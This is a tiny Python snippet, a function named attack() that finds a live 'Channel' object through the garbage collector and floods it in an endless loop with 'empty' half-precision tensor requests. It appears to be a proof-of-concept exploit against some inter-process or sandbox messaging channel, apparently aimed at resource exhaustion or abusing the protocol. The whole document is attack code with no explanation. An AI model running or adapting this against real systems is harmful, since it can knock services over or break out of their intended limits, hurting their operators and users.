def attack():
    import gc, json, os
    channel = next(o for o in gc.get_objects() if type(o).__name__ == "Channel")
    while True:
        channel.send({"op": "empty", "shape": [1], "dtype": "half"})
